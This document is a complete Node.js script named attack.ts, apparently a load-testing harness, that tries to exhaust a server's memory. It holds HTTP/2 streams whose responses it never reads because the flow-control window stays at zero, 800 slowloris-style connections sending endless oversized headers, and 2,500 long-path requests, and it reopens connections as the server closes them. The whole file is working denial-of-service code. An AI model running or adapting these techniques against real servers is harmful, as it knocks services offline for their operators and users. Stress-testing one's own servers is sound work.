import { once } from 'node:events';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

/**
 * A client that makes a server use as much memory as possible. It runs in a separate container, so that the visitors have
 * other addresses. Prints `ready` when all connections are open. Opens those that the server closes again until it is stopped.
 *   node attack.ts HOST
 */

const [host = ''] = process.argv.slice(2);

/** Opens streams whose responses it never reads, because the flow-control window remains 0. */
async function unreadStreams() {
  const session = http2.connect(`https://${host}:8443`, {
    settings: { initialWindowSize: 0 },
    rejectUnauthorized: false,
  });
  session.on('error', () => undefined);
  await once(session, 'remoteSettings');
  const open = () => {
    // The server ends a connection after 1,000 requests.
    if (session.closed || session.destroyed) return;
    const stream = session.request({ ':path': '/images/member.png', 'accept-encoding': 'gzip' });
    stream.on('error', () => undefined).on('close', open);
  };
  for (let stream = 0; stream < 128; stream += 1) open();
}

/** Sends request headers that never end: 62 KB first, and 11.6 KB each time after the server has closed the connection. */
function endlessHeaders(size = 62_000) {
  const socket = net.connect({ host, port: 8080 }).on('error', () => undefined);
  const lines = Array.from({ length: 4 }, (_, line) => `X-${line}: ${'x'.repeat(size / 4)}\r\n`);
  socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n${lines.join('')}`);
  socket.resume().on('close', () => setTimeout(endlessHeaders, 100, 11_600));
}

/** Requests a long path that does not exist. */
const longPath = (id: number, agent: https.Agent) =>
  new Promise((resolve) => {
    const path = `/${id}-`.padEnd(7600, 'x');
    const request = https.get({ host, port: 8443, path, agent }, (response) => response.resume().on('close', resolve));
    request.on('error', resolve);
  });

for (let connection = 0; connection < 6; connection += 1) await unreadStreams();
for (let connection = 0; connection < 800; connection += 1) {
  endlessHeaders();
  if (connection % 50 === 49) await delay(50);
}
const agent = new https.Agent({ keepAlive: true, maxSockets: 8, rejectUnauthorized: false });
await Promise.all(Array.from({ length: 2500 }, (_, id) => longPath(id, agent)));
console.log('ready');
setInterval(() => undefined, 1000);
